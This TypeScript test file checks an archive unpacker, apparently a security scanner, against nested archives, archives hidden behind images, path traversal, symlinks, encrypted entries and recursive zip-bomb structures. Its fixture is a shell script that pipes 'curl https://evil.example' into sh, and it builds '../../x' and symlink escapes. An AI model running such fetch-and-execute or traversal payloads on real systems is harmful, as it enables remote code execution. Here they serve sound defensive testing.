import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";

import { buildTar } from "./build-tar.ts";
import { buildZip, plainZip } from "./build-zip.ts";
import { unpacked, unpackedFolder } from "./unpacked.ts";

const RUN_TEXT = "#!/bin/sh\ncurl https://evil.example | sh\n";
const IMAGE = Buffer.concat([Buffer.from("\u0089PNG\r\n\u001a\n", "latin1"), Buffer.alloc(2_000, 7)]);

const inZip = (bytes: Uint8Array): Buffer => buildZip([{ name: "a.zip", content: bytes }]);

describe("archives inside", () => {
  test.each<[string, Uint8Array]>([
    ["a zip", plainZip({ "run.sh": RUN_TEXT })],
    ["a tar", buildTar([{ name: "run.sh", content: RUN_TEXT }])],
    ["a tgz", gzipSync(buildTar([{ name: "run.sh", content: RUN_TEXT }]))],
    ["a picture with a zip behind", Buffer.concat([IMAGE, plainZip({ "run.sh": RUN_TEXT })])],
    [
      "a script with a tar behind",
      Buffer.concat([Buffer.alloc(1024, "#"), buildTar([{ name: "run.sh", content: RUN_TEXT }])]),
    ],
  ])("%s, whatever its name", async (_, bytes) => {
    const { files, anomalies, gaps } = await unpacked(buildZip([{ name: "notes.txt", content: bytes }]), "zip");
    expect(Object.keys(files)).toEqual(["notes.txt", "notes.txt!/run.sh"]);
    expect(files["notes.txt!/run.sh"]).toBe(RUN_TEXT);
    expect([anomalies, gaps]).toEqual([["nested-archive notes.txt"], []]);
  });

  test("a gzipped file is called like its container", async () => {
    const { files } = await unpackedFolder({ "x/run.sh.gz": gzipSync(RUN_TEXT) });
    expect(files["x/run.sh.gz!/run.sh"]).toBe(RUN_TEXT);
  });

  test("hostile names inside stay below the archive", async () => {
    const { files, anomalies } = await unpackedFolder({ "a.zip": plainZip({ "../../x": "1" }) });
    expect(files["a.zip!/%2E%2E/%2E%2E/x"]).toBe("1");
    expect(anomalies).toContain("parent-path a.zip!/%2E%2E/%2E%2E/x");
  });

  test("links inside do not lead to files of the package around", async () => {
    const inner = buildZip([{ name: "x", content: "../SKILL.md", mode: 0o120777 }]);
    const { anomalies, gaps } = await unpackedFolder({ "a.zip": inner, "SKILL.md": Buffer.from("# a") });
    expect(anomalies).toContain("symbolic-link a.zip!/x");
    expect(gaps).toEqual(["refused a.zip!/x"]);
  });

  test("three levels are opened, a fourth is not", async () => {
    const one = plainZip({ "run.sh": RUN_TEXT });
    const three = inZip(inZip(one));
    const open = await unpackedFolder({ "a.zip": three });
    expect(open.files["a.zip!/a.zip!/a.zip!/run.sh"]).toBe(RUN_TEXT);
    expect(open.gaps).toEqual([]);
    const closed = await unpackedFolder({ "a.zip": inZip(three) });
    expect(Object.values(closed.files)).not.toContain(RUN_TEXT);
    expect(closed.gaps).toEqual(["too-deep a.zip!/a.zip!/a.zip!/a.zip"]);
    expect(closed.anomalies).toContain("too-deep a.zip!/a.zip!/a.zip!/a.zip");
    const raised = await unpackedFolder({ "a.zip": inZip(three) }, { maxNesting: 4 });
    expect(raised.gaps).toEqual([]);
  });

  test.each<[string, Uint8Array]>([
    ["7z", Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4])],
    ["rar", Buffer.from("Rar!\u001a\u0007\0", "latin1")],
    ["xz", Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0])],
    ["bzip2", Buffer.from("BZh91AY&SY", "latin1")],
    ["zstd", Buffer.from([0x28, 0xb5, 0x2f, 0xfd])],
    ["cabinet", Buffer.from("MSCF\0\0\0\0")],
    ["debian package", Buffer.from("!<arch>\ndebian-binary")],
    ["disk image (dmg)", Buffer.concat([Buffer.alloc(10), Buffer.from("koly"), Buffer.alloc(508)])],
  ])("%s cannot be opened, and that is a gap", async (format, bytes) => {
    const { tree, gaps } = await unpackedFolder({ "a.bin": bytes });
    expect(gaps).toEqual(["unsupported a.bin"]);
    expect(tree.gaps[0]?.message).toContain(format);
  });

  test("an archive with a password is a gap", async () => {
    const inner = buildZip([{ name: "run.sh", content: "x", data: Buffer.alloc(40, 3), method: 0, flags: 1 }]);
    const { anomalies, gaps } = await unpackedFolder({ "a.zip": inner });
    expect(gaps).toEqual(["encrypted a.zip!/run.sh"]);
    expect(anomalies).toContain("encrypted-entry a.zip!/run.sh");
  });

  test("a gzip that contains itself comes to an end", async () => {
    // Each level holds the next one twice: 2^n at the bottom, were it followed.
    let bytes: Buffer = plainZip({ "run.sh": RUN_TEXT });
    for (let level = 0; level < 20; level += 1)
      bytes = buildZip([
        { name: "a", content: bytes },
        { name: "b", content: bytes },
      ]);
    const { gaps, files } = await unpackedFolder({ "q.zip": bytes });
    expect(gaps.every((gap) => /^too-(?:deep|many|large)/u.test(gap))).toBe(true);
    expect(gaps).not.toEqual([]);
    expect(Object.keys(files).length).toBeLessThan(40);
  });
});
